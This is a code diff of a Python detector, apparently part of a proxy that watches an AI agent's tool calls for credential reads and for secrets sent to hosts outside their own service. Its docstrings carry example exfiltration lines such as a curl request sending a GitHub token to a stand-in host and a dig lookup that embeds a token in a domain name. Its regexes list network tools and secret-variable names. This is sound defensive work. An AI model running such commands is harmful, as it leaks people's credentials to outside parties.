@@ -13,6 +13,7 @@ import posixpath
 import re
 import shlex
 from collections.abc import Callable, Iterable, Iterator, Sequence
+from typing import NamedTuple
 from urllib.parse import unquote
 
 from proxy.detectors.commands import (
@@ -30,6 +31,7 @@ from proxy.detectors.credential_channel import (
 )
 from proxy.detectors.credential_use import (
     COMMAND_FILE,
+    HIDING,
     LEFT_BEHIND,
     NAME_ONLY,
     carried_over,
@@ -40,7 +42,15 @@ from proxy.detectors.credential_use import (
     unread_names,
     unread_settings,
 )
+from proxy.detectors.request_destinations import (
+    PRINTED_TOKEN,
+    ROUTE_SETTING,
+    SECRET_NAME,
+    requests_in,
+    words_of,
+)
 from proxy.detectors.tools import glob_matches, name_matches
+from proxy.egress import HostPattern, canonical_host
 from proxy.exchange import ToolCall
 from proxy.model import Action, Finding
 from proxy.scanning.rulepack import Match, Meter, Rule, RulePack, ScanBudget, Scanner, scan_timeout_finding
@@ -238,11 +248,17 @@ def credential_reads(
         arguments = _with_conversation(
             read_arguments(call.name, call.arguments), commands[:at] + commands[at + 1 :], ran
         )
-        rebound: Callable[[], bool] = _Rebound(others, budget, call.arguments, written, unknown=unknown)
-
-        rules, timed_out = _rules_read(
-            call.name, arguments, scanner, budget, blank=False, rebound=rebound, credentials=credentials
+        # What ran before is read where first asked (a call that names no credential file or sends no
+        # secret never asks) and once.
+        rebound = functools.cache(
+            functools.partial(_left_before, unknown, others, budget, call.arguments, written)
         )
+        before = functools.cache(functools.partial(_routes_before, unknown, conversation[:at], budget))
+        reading = functools.partial(
+            _rules_read, call.name, scanner=scanner, budget=budget, rebound=rebound, before=before,
+            credentials=credentials,
+        )  # fmt: skip
+        rules, timed_out = reading(arguments, blank=False)
         blanked = (
             unread_arguments(arguments, call.name) if rules and not timed_out and not rebound() else arguments
         )
@@ -252,9 +268,7 @@ def credential_reads(
             # ``K=~/.ssh/k; ssh -i $K``, is used where the reading puts it). Read again only where the
             # words as written name one, so a call that names none costs what it did; where the budget
             # leaves no time to read it again, what was found stands.
-            rules, timed_out = _rules_read(
-                call.name, blanked, scanner, budget, blank=True, rebound=rebound, credentials=credentials
-            )
+            rules, timed_out = reading(blanked, blank=True)
         code = "\n".join(content for path, content in ran if _CODE.search(path))
         if code:
             scan = scanner.scan(code, budget)
@@ -322,26 +336,42 @@ def _strings(value: object) -> Iterator[str]:
             yield from _strings(item)
 
 
-class _Rebound:
-    """``left_behind`` of a call's conversation, worked out when first asked (a call that names no
-    credential file never asks) and once: True where what ran before it is not known."""
+def _left_before(
+    unknown: bool, calls: list[ToolCall], budget: ScanBudget, running: str, written: list[tuple[str, str]]
+) -> bool:
+    """``left_behind`` of a call's conversation: True where what ran before it is not known."""
+    return unknown or left_behind(calls, budget, running, written)
 
-    def __init__(
-        self,
-        calls: list[ToolCall],
-        budget: ScanBudget,
-        running: str,
-        written: list[tuple[str, str]],
-        *,
-        unknown: bool,
-    ) -> None:
-        self._ask = (calls, budget, running, written)
-        self._found: bool | None = True if unknown else None
 
-    def __call__(self) -> bool:
-        if self._found is None:
-            self._found = left_behind(*self._ask)
-        return self._found
+class _Routes(NamedTuple):
+    """What calls left that changes where a later request goes or whose secret it sends."""
+
+    rerouted: bool
+    """Whether they may send a later request elsewhere (``ROUTE_SETTING``: a proxy exported,
+    ``~/.curlrc`` or ``/etc/hosts`` written, ``curl`` made an alias or a function), however quoted."""
+    bound: tuple[tuple[str, str], ...] = ()
+    """The variables they set to a CLI's token (``_BOUND_TOKEN``), each with the CLI."""
+
+
+def _routes_before(unknown: bool, calls: Sequence[ToolCall], budget: ScanBudget) -> _Routes:
+    """``_Routes`` of the calls before one: rerouted where what ran before is not known, or where the
+    budget leaves no time to read it."""
+    if unknown or budget.spent_for(sum(len(call.arguments) for call in calls)):
+        return _Routes(unknown or bool(calls))
+    with budget.metered():
+        each = [_memoized(_routes, call.name, call.arguments, _call_routes) for call in calls]
+    return _Routes(
+        any(routes.rerouted for routes in each), tuple(bound for routes in each for bound in routes.bound)
+    )
+
+
+def _call_routes(name: str, arguments: str) -> _Routes:
+    del name
+    text = "\n".join(_strings(_json_value(arguments)))
+    return _Routes(
+        bool(ROUTE_SETTING.search(text) or ROUTE_SETTING.search(HIDING.sub("", text))),
+        tuple((found[1], found[2].lower()) for found in _BOUND_TOKEN.finditer(text)),
+    )
 
 
 def left_behind(
@@ -361,7 +391,7 @@ def left_behind(
     if budget.spent_for(sum(len(call.arguments) for call in calls)):
         return True
     with budget.metered():
-        if any(_leaves(call.name, call.arguments) for call in calls):
+        if any(_memoized(_left, call.name, call.arguments, _call_leaves) for call in calls):
             return True
         texts = "\n".join(
             (running, *(call.arguments for call in calls if not name_matches(call.name, WRITING_TOOLS)))
@@ -370,22 +400,25 @@ def left_behind(
         return any(_CODE.search(path) or rebinds(content) for path, content in ran_files(texts, files))
 
 
-_LEAVES_KEPT = 1024
+_KEPT_PER_CALL = 1024
 _left: dict[tuple[str, bytes], bool] = {}
-"""``_leaves`` of the calls last read, by name and the digest of the arguments: a conversation's history
-comes back with each of its requests, and its calls (a file written whole among them) are kept no longer
-than they are sent."""
+_routes: dict[tuple[str, bytes], _Routes] = {}
+"""``_call_leaves`` and ``_call_routes`` of the calls last read, by name and the digest of the arguments: a
+conversation's history comes back with each of its requests, and its calls (a file written whole among
+them) are kept no longer than they are sent."""
 
 
-def _leaves(name: str, arguments: str) -> bool:
-    """``left_behind`` of one call."""
+def _memoized[T](
+    kept: dict[tuple[str, bytes], T], name: str, arguments: str, answer: Callable[[str, str], T]
+) -> T:
+    """``answer`` of one call, from ``kept`` where it was worked out before."""
     key = (name, hashlib.sha256(arguments.encode("utf-8", "surrogatepass")).digest())
-    found = _left.pop(key, None)
+    found = kept.pop(key, None)
     if found is None:
-        found = _call_leaves(name, arguments)
-        while len(_left) >= _LEAVES_KEPT:
-            del _left[next(iter(_left))]
-    _left[key] = found
+        found = answer(name, arguments)
+        while len(kept) >= _KEPT_PER_CALL:
+            del kept[next(iter(kept))]
+    kept[key] = found
     return found
 
 
@@ -411,6 +444,7 @@ def _rules_read(
     *,
     blank: bool,
     rebound: Callable[[], bool],
+    before: Callable[[], _Routes],
     credentials: CredentialTable,
 ) -> tuple[dict[str, Rule], tuple[str, ...]]:
     """The credential rules a call's arguments match, and those out of time on them. The commands it runs
@@ -424,6 +458,9 @@ def _rules_read(
         # writes, as a writing tool's content is: it names no file the command reads.
         arguments = _mapped_json_strings(arguments, without_stored_heredocs)
     commands = "" if budget.spent_for(len(arguments)) else shell_readings(name, arguments)
+    # Where the readings hold the arguments' strings, a request in their JSON is read there: the quotes
+    # JSON escapes around a header hide it from the rule, which reads it as data sent.
+    unescaped = len(arguments) if commands and _json_object(arguments) is not None else 0
     commands = unread_names(commands) if blank else commands
     # Code is respelled as written, its quotes kept: a reading with them undone makes a literal key a
     # name (``e["X"]`` as ``e[X]``).
@@ -443,25 +480,35 @@ def _rules_read(
     commands += "\n" + "\n".join(expanded_words(f"{arguments}\n{commands}"))
     read = f"{arguments}\n{commands}"
     scan = scanner.scan(read, budget)
-    sent = [match for match in scan.found if match.rule.id == SENT_RULE]
+    sent = [match for match in scan.found if match.rule.id == SENT_RULE and match.start >= unescaped]
     rules = {match.rule.id: match.rule for match in scan.found if match.rule.id != SENT_RULE}
     sent_rule = scanner.rules_by_id.get(SENT_RULE)
     timed_out = tuple(scan.timed_out)
+    handing = STORE_RULE in rules and all(
+        _TOKEN_WORDS.search(read[match.start : match.end])
+        for match in scan.found
+        if match.rule.id == STORE_RULE
+    )
     if sent_rule is not None and SENT_RULE not in timed_out and budget.left <= 0:
         # A spent budget reads no further: where a send goes is not known, and the call is withheld.
         if sent or _SENDING.search(read):
             timed_out += (SENT_RULE,)
-    elif sent_rule is not None and SENT_RULE not in timed_out:
+    elif (sent_rule is not None and SENT_RULE not in timed_out) or handing:
         # Where its requests go is read on the budget as the scan was: out of time, the rule is, and the
         # call is withheld all the same.
+        texts = [*_strings(_json_value(arguments)), *([code] if code else [])]
         with budget.metered() as meter:
             try:
-                if any(not _goes_where_it_belongs(read, match, credentials) for match in sent) or (
-                    _sent_elsewhere(read, credentials, meter)
+                sends = _Sends(name, texts, commands, meter, credentials, before())
+                if sent_rule is not None and (
+                    any(not sends.goes_where_it_belongs(read, match) for match in sent) or sends.elsewhere()
                 ):
                     rules[SENT_RULE] = sent_rule
+                if handing and sends.handed_tokens(texts):
+                    # A token a CLI prints, handed straight to its own service, is no read of it.
+                    del rules[STORE_RULE]
             except _OutOfTime:
-                timed_out += (SENT_RULE,)
+                timed_out += (SENT_RULE,) if sent_rule is not None else ()
     globbing += "\n" + "\n".join(expanded_words(globbing))
     rules |= {rule.id: rule for rule in globbed_rules(globbing, scanner.rules) if rule.id not in rules}
     searched = searched_rules(globbing, scanner.rules, listings=commands)
@@ -470,144 +517,178 @@ def _rules_read(
 
 
 SENT_RULE = "secret-variable-sent"
-_URL_HOST = re.compile(
-    r"""(?i)\b(?:https?|wss?)://(?:[^/\s"'@\\]{0,256}@)?(\[[^\]\s]{1,64}\]|[^/\s"'?#:@\\]{1,256})"""
-)
+STORE_RULE = "secret-store-read"
 _TRAILING_NAME = re.compile(r"[A-Za-z_]\w*$")
 _FIELD = re.compile(r"""([A-Za-z_][\w-]*)["']?[ \t]*[=:][ \t]*["'({\[]?[ \t]*(?:\$env:|[^\s=:&,]){0,40}$""")
+_USER_INFO = re.compile(r"(?i)\b[a-z][a-z0-9+.-]*://[^\s/@\"']*$")
 _SENDING = re.compile(
     r"(?i)\b(?:curl|wget2?|https?|xh|xhs|invoke-webrequest|invoke-restmethod|iwr|irm|requests|httpx|aiohttp"
-    r"|urllib3?|urlopen|fetch|axios|got|superagent)\b"
+    r"|urllib3?|urlopen|fetch|axios|got|superagent|dig|nslookup|host|ping|drill|gh|git)\b"
 )
-"""A command or a call of code that sends a request: where a secret variable it names goes is read."""
-_SECRET_VARIABLE = re.compile(
-    r"""\$\{?(?:env:)?([A-Za-z_]\w*)|%([A-Za-z_]\w*)%|(?:\bos\.environb?(?:\[|\.get\()|\bgetenv\(|\bENV(?:\[|\.fetch\()"""
-    r"""|\$ENV\{)[ \t]*["']?([A-Za-z_]\w*)|\bprocess\.env(?:\.|\[[ \t]*["'`])([A-Za-z_]\w*)"""
+"""A command or a call of code that may send a request: where a secret variable it names goes is read."""
+_BOUND_TOKEN = re.compile(
+    r"(?:^|[\s;&|({])(?:(?:export|local|readonly|declare|typeset)[ \t]+(?:-\w+[ \t]+)*)?([A-Za-z_]\w*)=[\"']?"
+    + PRINTED_TOKEN.pattern.removeprefix("(?i)")
 )
-_SECRET_NAME = re.compile(
-    r"(?i)(?:^|_)(?:token|secret|password|passwd|passphrase|pat|pass|pwd|credentials?|creds"
-    r"|(?:api|access|secret|private|auth|client|app)_?key)$"
+"""A variable set to a CLI's token (``export TOKEN=$(gcloud auth print-access-token)``): it holds a secret
+of the CLI's service whatever its name."""
+_TOKEN_WORDS = re.compile(
+    r"(?i)\b(?:print-(?:access|identity)-token|get-access-token|gh[ \t]+auth[ \t]+token)\b"
 )
-"""A variable's name that ends in a word of a secret (``GITHUB_TOKEN``, ``AWS_SECRET_ACCESS_KEY``; not
-``AWS_ACCESS_KEY_ID``)."""
-_LONGEST_REQUEST = 600
-
-
-def _request_span(text: str, start: int) -> str:
-    """The command or call of code a request starts at ``start``: to the end of its line, its brackets
-    closed (a call of code over lines), or the first ``;``, ``|`` or ``&`` outside them."""
-    depth = 0
-    end = min(len(text), start + _LONGEST_REQUEST)
-    for mark in _REQUEST_MARK.finditer(text, start, end):
-        character = mark[0]
-        if character in "([{":
-            depth += 1
-        elif character in ")]}":
-            depth -= 1
-        elif depth <= 0:
-            return text[start : mark.start()]
-    return text[start:end]
-
-
-_REQUEST_MARK = re.compile(r"[\n;|&()\[\]{}]")
-"""What ends a request or opens or closes a bracket: the characters between are skipped unread."""
+_PIPED_TOKEN = re.compile(
+    r"(?i)\b(gcloud|az|gh)\b[^|\n;&()`]{0,300}?\b(?:print-access-token|get-access-token|auth[ \t]+token)\b"
+    r"[^|\n;&()`]{0,300}\|[ \t]*(?:docker|podman|buildah|skopeo|helm[ \t]+registry|oras)[ \t]+login\b"
+    r"([^|\n;&()`]{0,300})"
+)
+"""A CLI's token piped straight into a registry's login (``gcloud auth print-access-token | docker login
+-u oauth2accesstoken --password-stdin https://gcr.io``)."""
+_LOGIN_VALUED = frozenset({"-u", "--username", "--authfile", "--config", "--cert-dir"})
+CLI_HOSTS = {
+    "gcloud": ("*.googleapis.com", "gcr.io", "*.gcr.io", "*.pkg.dev"),
+    "az": (
+        "management.azure.com", "*.management.azure.com", "graph.microsoft.com", "*.vault.azure.net",
+        "*.azurecr.io", "*.core.windows.net", "*.azure.com",
+    ),
+    "gh": ("api.github.com", "github.com", "*.github.com", "*.githubusercontent.com", "ghcr.io"),
+}  # fmt: skip
+"""The hosts of the service whose token each CLI prints: where the token goes as it is used."""
+_CLI_PATTERNS = {
+    cli: tuple(HostPattern.parse(host, None) for host in hosts) for cli, hosts in CLI_HOSTS.items()
+}
 
 
 class _OutOfTime(Exception):
     """The budget a reading of where requests go is charged to is spent."""
 
 
-def _hosts(request: str) -> list[str]:
-    """The hosts of the URLs a request names, and an empty name (no host's) where it may go elsewhere
-    too (``_goes_elsewhere_too``)."""
-    hosts = [host.strip("[]").lower() for host in _URL_HOST.findall(request)]
-    return [*hosts, ""] if hosts and _goes_elsewhere_too(request) else hosts
+class _Sends:
+    """The requests of a call's texts (``request_destinations.requests_in``), read on a meter: where
+    the call, or one before it in the conversation, may send requests elsewhere (``rerouted``), none of
+    their destinations is known."""
 
+    def __init__(
+        self,
+        name: str,
+        texts: list[str],
+        readings: str,
+        meter: Meter,
+        credentials: CredentialTable,
+        before: _Routes,
+    ) -> None:
+        self._meter = meter
+        self.credentials = credentials
+        code = bool(set(re.split(r"[^a-z0-9]+", name.lower())) & _LANGUAGES)
+        rerouted = before.rerouted or any(ROUTE_SETTING.search(text) for text in (*texts, readings))
+        self.bound = dict(before.bound) | {
+            found[1]: found[2].lower() for text in (*texts, readings) for found in _BOUND_TOKEN.finditer(text)
+        }
+        self.own = [
+            [
+                request.unknown() if rerouted else request
+                for request in requests_in(text, self._tick, code=code)
+            ]
+            for text in texts
+        ]
+        self.read = [request for requests in self.own for request in requests]
+        self.read += [
+            request.unknown() if rerouted else request
+            for request in requests_in(readings, self._tick, lines=True)
+        ]
 
-def _goes_elsewhere_too(request: str) -> bool:
-    """Whether a request may go elsewhere than the URLs it names: an option that sends it through another
-    host or reads more of it from elsewhere, a proxy set, or a host or a variable given as a destination
-    of its own (a word no option takes as its value)."""
-    words = _URL.sub(" ", request).split()
-    for before, word in zip(["", *words], words, strict=False):
-        bare = word.strip("'\"")
-        if _REROUTED.fullmatch(bare.split("=", 1)[0]) or "_proxy=" in bare.lower():
-            return True
-        if before.strip("'\"") in _VALUED_OPTIONS:
-            continue
-        variable = _WORD_VARIABLE.fullmatch(bare)
-        if _BARE_HOST.fullmatch(bare) or (variable and not _SECRET_NAME.search(variable[1])):
-            return True
-    return False
-
-
-_URL = re.compile(r"""(?i)\b(?:https?|wss?)://[^\s"'`]*""")
-_REROUTED = re.compile(
-    r"--resolve|--connect-to|-x|--proxy|--preproxy|--socks\w*|--next|-:|-K|--config|--url|-e|--execute"
-)
-"""curl's and wget's options that connect through another host, add requests or read options (and
-URLs) from elsewhere."""
-_VALUED_OPTIONS = frozenset(
-    {"-o", "-O", "--output", "-T", "--upload-file", "-w", "--write-out", "-d", "--data", "--data-raw",
-     "--data-binary", "--data-urlencode", "--json", "-F", "--form", "-H", "--header", "-u", "--user", "-A",
-     "--user-agent", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "--cacert", "--cert", "--key",
-     "-X", "--request", "-m", "--max-time", "--retry", "-r", "--range", "-D", "--dump-header",
-     "--output-document", "--post-data", "--post-file", "--body-data", "--method", "-P"}
-)  # fmt: skip
-"""Options whose next word is their value, not a destination."""
-_BARE_HOST = re.compile(
-    r"(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:/\S*)?|(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,63}\.?(?::\d+)?(?:/\S*)?"
-)
-"""A host written without a scheme, which curl takes as a URL of its own."""
-_WORD_VARIABLE = re.compile(r"\$\{?([A-Za-z_]\w*)\}?")
-
-
-def _goes_where_it_belongs(read: str, match: Match, credentials: CredentialTable) -> bool:
-    """Whether a match of ``SENT_RULE`` sends its variable to where it belongs: its field (``-d
-    client_secret=$CLIENT_SECRET``) to its own service, by the hosts of the URLs its request names. A match
-    in a reading that undid a disguise is never."""
-    if match.disguise:
-        return False
-    found = read[match.start : match.end]
-    name = _TRAILING_NAME.search(found)
-    if name is None:
-        return False
-    field = _FIELD.search(found[: name.start()])
-    hosts = _hosts(_request_span(read, match.start))
-    return sent_where_it_belongs(name[0], hosts, field[1] if field else "", credentials, header=False)
-
-
-def _sent_elsewhere(read: str, credentials: CredentialTable, meter: Meter) -> bool:
-    """Whether a request sends a secret variable whose name says which service it is for to a host that
-    is not that service's (``curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.example``), where
-    the hosts it names are known: a header hands a secret over as well as data does. Each command or call
-    that sends and reaches the variable is read, a URL's among them (``https://x.example/?u=https://...``),
-    each once. Raises ``_OutOfTime`` where the meter's budget is spent before the answer."""
-    if _SENDING.search(read) is None:
-        return False
-    requests: dict[int, tuple[int, list[str]]] = {}
-    named: dict[str, bool] = {}
-    for variable in _SECRET_VARIABLE.finditer(read):
-        if meter.left() <= 0:
+    def _tick(self) -> None:
+        if self._meter.left() <= 0:
             raise _OutOfTime
-        name = next(group for group in variable.groups() if group)
-        if name not in named:
-            named[name] = bool(_SECRET_NAME.search(name)) and provider_of(name, credentials) is not None
-        if not named[name]:
-            continue
-        window = max(0, variable.start() - _LONGEST_REQUEST)
-        for sending in _SENDING.finditer(read, window, variable.start()):
-            if sending.start() not in requests:
-                request = _request_span(read, sending.start())
-                requests[sending.start()] = (sending.start() + len(request), _hosts(request))
-            end, hosts = requests[sending.start()]
-            if (
-                end >= variable.end()
-                and hosts
-                and not sent_where_it_belongs(name, hosts, "", credentials, header=True)
+
+    def belongs(self, name: str, hosts: tuple[str, ...] | None, field: str, *, header: bool) -> bool:
+        """Whether a variable (or a CLI's token, ``$(gcloud)``) sent to ``hosts`` goes to its service
+        alone (``sent_where_it_belongs``)."""
+        cli = self.bound.get(name) or (name[2:-1] if name.startswith("$(") else None)
+        if cli is not None:
+            return bool(hosts) and all(
+                any(pattern.names(canonical_host(host)) for pattern in _CLI_PATTERNS[cli])
+                for host in hosts or ()
+            )
+        return sent_where_it_belongs(name, hosts or (), field, self.credentials, header=header)
+
+    def of_service(self, name: str) -> bool:
+        """Whether a variable holds a secret of a service its name or its value says."""
+        return (
+            name.startswith("$(")
+            or name in self.bound
+            or (bool(SECRET_NAME.search(name)) and provider_of(name, self.credentials) is not None)
+        )
+
+    def elsewhere(self) -> bool:
+        """Whether a request sends a service's secret (``of_service``) to a host that is not that
+        service's, or where its hosts are not known for certain: a header hands a secret over as well as
+        data does; or looks up a name a secret variable is part of (``dig $GITHUB_TOKEN.x.example``)."""
+        for request in self.read:
+            for name in request.names:
+                if request.lookup and (SECRET_NAME.search(name) or self.of_service(name)):
+                    return True
+                if self.of_service(name) and not self.belongs(name, request.hosts, "", header=True):
+                    return True
+        return False
+
+    def goes_where_it_belongs(self, read: str, match: Match) -> bool:
+        """Whether a match of ``SENT_RULE`` sends its variable to where it belongs: its field (``-d
+        client_secret=$CLIENT_SECRET``) or a URL's user-info (``https://x:$GITHUB_TOKEN@github.com``) to its
+        own service, by every request that names it. A match in a reading that undid a disguise is never."""
+        if match.disguise:
+            return False
+        found = read[match.start : match.end]
+        variable = _TRAILING_NAME.search(found)
+        if variable is None:
+            return False
+        name = variable[0]
+        before = found[: variable.start()].rstrip("${")
+        field = _FIELD.search(before)
+        user_info = _USER_INFO.search(before) is not None
+        requests = [request for request in self.read if name in request.names]
+        return bool(requests) and all(
+            not request.lookup
+            and self.belongs(name, request.hosts, field[1] if field else "", header=user_info)
+            for request in requests
+        )
+
+    def handed_tokens(self, texts: list[str]) -> bool:
+        """Whether each token a CLI prints in the call's texts is handed straight to its own service: set
+        to a variable (``TOKEN=$(gcloud auth print-access-token)``), substituted into requests to the
+        service's hosts alone, or piped into its registry's login; none hidden by a quote or an expansion
+        from this reading."""
+        for text, requests in zip(texts, self.own, strict=True):
+            substituted = [
+                request for request in requests if any(name.startswith("$(") for name in request.names)
+            ]
+            if any(
+                not self.belongs(name, request.hosts, "", header=True)
+                for request in substituted
+                for name in request.names
+                if name.startswith("$(")
             ):
-                return True
-    return False
+                return False
+            handed = (
+                len(_BOUND_TOKEN.findall(text))
+                + sum(self._piped_to_its_registry(found) for found in _PIPED_TOKEN.finditer(text))
+                + sum(len(PRINTED_TOKEN.findall(request.text)) for request in substituted)
+            )
+            if len(_TOKEN_WORDS.findall(HIDING.sub("", text))) > handed:
+                return False
+        return True
+
+    def _piped_to_its_registry(self, found: re.Match[str]) -> bool:
+        words = [value for _, value in words_of(found[2])]
+        if "--password-stdin" not in words:
+            return False
+        operands = [
+            word
+            for before, word in zip(["", *words], words, strict=False)
+            if not word.startswith("-") and before not in _LOGIN_VALUED
+        ]
+        if len(operands) != 1:
+            return False
+        registry = re.sub(r"(?i)^https?://", "", operands[0]).split("/", 1)[0]
+        return self.belongs(f"$({found[1].lower()})", (registry,), "", header=True)
 
 
 # Words of a tool's name that say its text is code of a language other than a POSIX shell's, and fields
